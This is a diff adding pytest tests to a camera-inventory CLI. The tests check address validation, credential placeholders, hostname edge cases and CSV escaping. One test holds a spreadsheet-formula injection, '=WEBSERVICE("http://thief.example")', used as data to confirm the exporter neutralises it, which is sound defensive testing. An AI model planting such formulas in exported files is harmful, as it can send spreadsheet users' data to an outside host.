@@ -14,6 +14,7 @@ from workbench.cli import app
 from workbench.errors import BadInput
 from workbench.investigation import open_workbench
 from workbench.monitoring import inventory, open_monitoring
+from workbench.streams import onvif
 from workbench.ward import load
 
 BASE = (
@@ -188,3 +189,48 @@ def test_cli_lists_and_imports(root, tmp_path):
     assert "S01-P9" in cells(root)
     bad = run.invoke(app, ["cameras", "import", str(root), os.devnull, "--apply"])
     assert bad.exit_code == 1
+
+
+@pytest.mark.parametrize("column", ["stream_url", "substream_url", "fallback_url", "boost_url"])
+@pytest.mark.parametrize("known", [True, False])
+def test_an_unusable_address_in_any_column_is_refused(house, root, tmp_path, column, known):
+    before = cells(root)
+    text = f"camera_id,{column}\nS01-P1,ftp://x/y\n"
+    if not known and column == "stream_url":
+        text = BASE + NEW.replace("rtsp:", "ftp:")
+    elif not known:
+        text = BASE.strip() + f",{column}\n" + NEW.strip() + ",ftp://x/y\n"
+    with pytest.raises(BadInput, match="ftp"):
+        inventory.apply_import(house, given(tmp_path, text))
+    assert cells(root) == before
+
+
+def test_places_for_credentials_are_no_credentials(house, root, tmp_path):
+    url = "http://10.0.0.9/live?user={user}&password={password}"
+    inventory.apply_import(house, given(tmp_path, f"camera_id,stream_url\nS01-P1,{url}\n"))
+    assert cells(root)["S01-P1"]["stream_url"] == url
+    plan = inventory.plan_import(
+        house, given(tmp_path, f"camera_id,stream_url\nS01-P1,{url[:-10]}hush\n")
+    )
+    assert "a name or a password" in plan.faults[0].sentence()
+
+
+def test_no_cell_of_a_strangers_table_is_a_formula(root, house, tmp_path):
+    hostile = '=WEBSERVICE("http://thief.example")'
+    shown = onvif.Profile("t", "main", "H264", 1920, 1080, 15, 0, "")
+    device = onvif.Device("10.0.0.9", "http://10.0.0.9/", hostile, maker="@x", profiles=(shown,))
+    (row,) = csv.DictReader(inventory.found_csv([inventory.Found(device, ("",), ())]).splitlines())
+    assert (row["name"], row["maker"], row["stream_url"]) == ("'" + hostile, "'@x", "")
+    assert row["remark"] == "no usable address of main"
+
+
+@pytest.mark.parametrize(
+    "name",
+    ["xn--.é..", "a" * 70, "a" * 100_000, "..", "é" * 64, "\0", "xn--\udcff", "a..b", "[::1"],
+)
+def test_a_name_that_no_host_can_have_is_a_sentence(root, name):
+    words = ["cameras", "discover", str(root), "--address", name, "--no-probe", "--wait", "0.2"]
+    done = CliRunner().invoke(app, words)
+    assert done.exit_code in (1, 2)
+    assert not isinstance(done.exception, TypeError | UnicodeError | OSError), done.exception
+    assert len(done.output) < 1000
